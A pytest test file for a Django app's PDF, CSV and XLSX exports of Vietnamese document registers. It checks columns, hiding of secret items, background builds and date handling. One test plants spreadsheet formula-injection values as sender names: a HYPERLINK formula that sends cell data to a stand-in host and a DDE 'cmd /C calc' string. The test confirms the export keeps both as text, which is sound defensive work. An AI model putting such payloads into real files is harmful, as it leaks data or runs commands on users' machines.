"""Printed registers (DOMAIN §6 columns) and CSV/XLSX exports of what the user may see."""

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from core.models import GeneratedFile, GeneratedFileStatus
from dispatch import services
from units import approvals
from units.choices import DecisionKind, Secrecy

pytestmark = pytest.mark.django_db

URL = reverse("dispatch:register-export")


@pytest.fixture
def book(office, register, distribute):
    distribute(register(n=1, summary="Về hội nghị tổng kết công tác văn thư"))
    register(n=2, summary="Tài liệu mật về nhân sự", secrecy=Secrecy.SECRET)
    cancelled = register(n=3, summary="Vào sổ nhầm")
    services.incoming_cancel(actor=office["clerk"], document=cancelled, reason="Trùng số")


def params(**changes):
    today = timezone.localdate()
    values = {
        "kind": "incoming",
        "date_from": (today - timedelta(days=3)).strftime("%d/%m/%Y"),
        "date_to": today.strftime("%d/%m/%Y"),
        "output": "pdf",
    }
    values.update(changes)
    return values


def pdf_text(content: bytes) -> str:
    """The text of every page with line breaks inside table cells undone."""
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return " ".join(text.split()).replace("/ ", "/")


def test_the_incoming_register_pdf_has_the_columns_and_rows(client, office, book):
    client.force_login(office["clerk2"])
    response = client.get(URL, params())
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    for column in ("Ngày đến", "Số đến", "Nơi gửi", "Số, ký hiệu", "Loại và trích yếu", "Ký nhận"):
        assert column in text
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in text.upper()
    assert "hội nghị tổng kết" in text
    assert "01-CV/BTCTU" in text
    assert "Hủy: Trùng số" in text
    assert "Tài liệu mật" not in text


def test_the_outgoing_register_pdf(client, office, draft):
    document = draft()
    services.outgoing_review(actor=office["th_head"], document=document)
    services.outgoing_confirm_check(actor=office["clerk"], document=document)
    services.outgoing_submit(actor=office["th_staff"], document=document)
    approvals.approval_decide(actor=office["dc"], obj=document, kind=DecisionKind.APPROVE)
    document.refresh_from_db()
    services.outgoing_issue(actor=office["clerk"], document=document)
    services.seal_use_record(actor=office["clerk"], document=document, seal="Dấu Văn phòng")
    services.outgoing_dispatch(actor=office["clerk"], document=document)
    client.force_login(office["clerk"])
    text = pdf_text(client.get(URL, params(kind="outgoing")).content)
    for column in ("Người ký", "Nơi nhận", "Số bản", "Ngày gửi"):
        assert column in text
    assert "01-HD/VPTU" in text
    assert "Huyện ủy Đông Sơn" in text


def test_csv_and_xlsx_hold_only_what_the_user_may_see(client, office, book):
    client.force_login(office["clerk2"])
    csv_text = client.get(URL, params(output="csv")).content.decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("Ngày đến,Số đến,Nơi gửi")
    assert "hội nghị tổng kết" in csv_text and "Tài liệu mật" not in csv_text
    client.force_login(office["chief"])
    response = client.get(URL, params(output="xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row if cell]
    assert "Ngày đến" in values
    assert any("Tài liệu mật" in str(value) for value in values)
    client.force_login(office["tc_staff"])
    assert "hội nghị" not in client.get(URL, params(output="csv")).content.decode("utf-8-sig")


def test_a_long_range_is_built_in_the_background(
    client, office, book, media_root, django_capture_on_commit_callbacks
):
    client.force_login(office["clerk"])
    start = timezone.localdate() - timedelta(days=90)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(URL, params(date_from=start.strftime("%d/%m/%Y")))
    generated = GeneratedFile.objects.get()
    assert response.status_code == 302
    assert generated.status == GeneratedFileStatus.READY
    assert "hội nghị tổng kết" in pdf_text(generated.file.read())


def test_a_long_xlsx_register_is_built_in_the_background_with_what_the_user_may_see(
    client, office, book, media_root, django_capture_on_commit_callbacks
):
    client.force_login(office["clerk2"])
    start = timezone.localdate() - timedelta(days=90)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(URL, params(date_from=start.strftime("%d/%m/%Y"), output="xlsx"))
    generated = GeneratedFile.objects.get()
    assert response.status_code == 302
    assert (generated.status, generated.kind) == (
        GeneratedFileStatus.READY,
        "dispatch.register.xlsx",
    )
    download = client.get(reverse("core:generated_file_download", args=[generated.pk]))
    assert download["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert ".xlsx" in download["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    values = [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row if cell]
    assert any("hội nghị tổng kết" in value for value in values)
    assert not any("Tài liệu mật" in value for value in values)


def test_a_reversed_range_is_refused(client, office):
    client.force_login(office["clerk"])
    today = timezone.localdate()
    response = client.get(URL, params(date_from=(today + timedelta(days=1)).strftime("%d/%m/%Y")))
    assert response.status_code == 200
    assert "Ngày kết thúc" in response.content.decode()


def test_a_formula_in_a_sender_stays_text_in_csv_and_xlsx(client, office, register):
    """A sender typed as a spreadsheet formula must not run in the clerk's Excel."""
    register(n=1, sender='=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào")')
    register(n=2, sender="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(office["chief"])
    csv_text = client.get(URL, params(output="csv")).content.decode("utf-8-sig")
    assert ",\"'=HYPERLINK(" in csv_text
    assert ",'@SUM(1+1)" in csv_text
    assert ',"=HYPERLINK' not in csv_text and ",@SUM" not in csv_text

    workbook = load_workbook(io.BytesIO(client.get(URL, params(output="xlsx")).content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value]
    summary = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert summary.data_type == "s"
    assert summary.value.startswith("=HYPERLINK(")


def test_xlsx_stores_dates_as_dates_and_numbers_as_numbers(client, office, book):
    client.force_login(office["chief"])
    sheet = load_workbook(io.BytesIO(client.get(URL, params(output="xlsx")).content)).active
    header = [cell.value for cell in sheet[3]]
    assert header[:4] == ["Ngày đến", "Số đến", "Nơi gửi", "Số, ký hiệu"]
    first = sheet[4]
    assert first[0].is_date and first[0].number_format == "DD/MM/YYYY"
    assert first[0].value.date() == timezone.localdate()
    assert isinstance(first[1].value, int) and first[1].value == 1
    assert first[3].value == "01-CV/BTCTU"
    assert first[4].is_date
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == f"A3:J{sheet.max_row}"
    assert sheet.column_dimensions["F"].width > sheet.column_dimensions["B"].width


def test_the_printed_number_and_symbol_stays_on_one_line(client, office, register):
    register(n=125, number_and_symbol="125-CV/BTCTU-UBKTTU-BDVTU")
    client.force_login(office["clerk"])
    content = client.get(URL, params()).content
    lines = PdfReader(io.BytesIO(content)).pages[0].extract_text().splitlines()
    assert any("125-CV/BTCTU-UBKTTU-BDVTU" in line for line in lines)
